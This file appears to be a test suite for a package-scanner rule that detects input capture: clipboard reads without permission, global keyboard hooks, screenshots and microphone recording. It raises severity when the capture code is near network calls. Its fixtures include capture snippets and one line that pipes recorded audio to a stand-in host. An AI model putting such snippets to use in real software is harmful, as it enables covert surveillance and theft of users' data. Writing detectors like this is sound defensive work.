import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule } from './input-capture.rule.js';

test('bad: the clipboard without its permission, every key of the computer', () => {
  assert.deepEqual(said(rule, { 'a.js': 'const { clipboard: c } = navigator;\nc.readText().then(show)' }), ['medium a.js:2']);
  assert.deepEqual(said(rule, { 'a.js': 'window.navigator.clipboard.read()' }, { permissions: ['network'] }), ['medium a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': 'import { uIOhook } from "uiohook-napi"' }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.py': 'import pyperclip as p\nx = p.paste()', 'b.py': 'from pynput import keyboard' }), ['high a.py:2', 'high b.py:1']);
});

test('good: with the permission, or only written', () => {
  assert.deepEqual(said(rule, { 'a.js': 'navigator.clipboard.readText()', 'a.py': 'import pyperclip\npyperclip.paste()' }, { permissions: ['clipboard'] }), []);
  assert.deepEqual(said(rule, { 'a.js': 'navigator.clipboard.writeText(x); document.addEventListener("keydown", shortcut); host.clipboard.readText()' }), []);
  assert.deepEqual(said(rule, { 'a.js': '// navigator.clipboard.readText()\nimport "./iohook.js"', 'a.py': 'keyboard = 1\npaste = "pyperclip.paste()"' }), []);
});

test('pictures of the screen are bad beside what sends', () => {
  assert.deepEqual(said(rule, { 'a.js': 'import shot from "screenshot-desktop"' }), ['medium a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': 'import shot from "screenshot-desktop"\nfetch(u, { body: await shot() })' }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.py': 'import requests\nfrom PIL import ImageGrab\nrequests.post(u, data=x)', 'a.js': 'import "./screenshot-desktop"; fetch(u)' }), []);
});

test('a program for a terminal that keeps what was copied here is less than one that may hand it on', () => {
  const reads = '#!/usr/bin/env node\nconst c = require("clipboardy"); show(c.readSync());';
  assert.deepEqual(said(rule, { 'a.js': reads }), ['medium a.js:2']);
  assert.deepEqual(said(rule, { 'a.js': reads.slice(reads.indexOf('const')) }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': reads, 'b.js': 'setInterval(() => tick(), 500); setTimeout(tick, 9)' }), ['medium a.js:2']);
  for (const other of ['setTimeout("x()", 9)', 'require("./a"); fetch(u, { method: "POST", body })', 'require("child_process").exec(x)', 'require(name)', 'eval(x)']) assert.deepEqual(said(rule, { 'a.js': reads, 'b.js': other }), ['high a.js:2'], other);
});

test('what is said in front of the computer', () => {
  const record = 'const recorder = require("node-record-lpcm16"); const heard = recorder.record({ sampleRate: 16000 }).stream();';
  assert.deepEqual(said(rule, { 'a.js': record }), ['medium a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `${record}\nheard.pipe(require("https").request({ host: "a.example", method: "POST" }))` }), ['high a.js:1']);
});
